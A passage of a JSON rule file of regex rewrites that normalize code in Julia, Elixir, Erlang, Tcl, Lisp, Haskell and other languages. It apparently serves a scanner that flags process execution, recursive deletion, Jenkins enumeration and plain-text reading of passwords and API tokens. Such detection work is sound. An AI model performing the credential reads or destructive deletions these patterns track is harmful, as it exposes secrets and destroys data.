-1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(\
-?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\
-\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\"\
-)","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,(\
-)]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\
-\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\)\
-)\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\
-\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~\
-[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")"\
-,"words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;\
-]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(i\
-t) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\
-\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"\
-],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(\
-?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\
-\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^\
- {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\
-\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\\
-(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;\
-"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\
-\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n\
-]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\
-\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites\
-":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([\
-^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<\
-[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","a\
-ny_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getPrope\
-rty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachI\
-ndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],\
-["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\
-\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?\
-:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\\
-)|runtime)","Runtime"],["(?:(?:jenkins\\\\.model\\\\.)?Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:ll\
-Items|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:\
-Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(ma\
-p|forEach|filter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\
-\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\\
-.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?\
-(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(\
-?=\\\\s*[A-Z]\\\\w*\\\\s*:)","{"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[\
-^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|\
-try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\\
-n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() \
-{|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\
-\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface\
-|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}\
-",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"\
-|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\\
-"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\
-\\\\}?","rewrites":[["^(?:script )?eval ",""],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|\
-using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.\
-,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])\
-",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|u\
-nwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s\
-+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".\
-getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\
-\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:\
-absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:(?:jenkins\\\\.model\\\\.)?Jenkin\
-s|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems(\
-)"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)"\
-,""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\
-\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(\
-?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w\
-|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|pr\
-otected|const|constexpr|auto|late|synchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\
-\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|cas\
-e|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)\
-?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\\
-[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"]\
-,["\\\\bfor(?:each)?\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\
-\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.strin\
-g("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],\
-["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\
-\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum\
-|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".f\
-ilter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\
-\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|sp\
-awn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!\
--)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\
-\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?\
-:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)(?:\\\\s+[^\\\\s\\\\]]+){0,20}\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\
-\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+\
-)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:\
-[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\\
-s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of\
- words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] \
-{0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\
-\\\\?.","rewrites":[["(?<=\\\\(\\\\s{0,9})[a-z][\\\\w.-]*\\\\/(?=[a-z])",""],["(?<=\\\\w)!(?=\\\\s)",""],["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],[\
-"\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\
-\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|\
-define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s\
-*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["(\\\\w)\
-\\\\s+\\\\[","$1, ["],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*\
-(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|\
-t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]\
-*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w\
-+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\
-\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(\
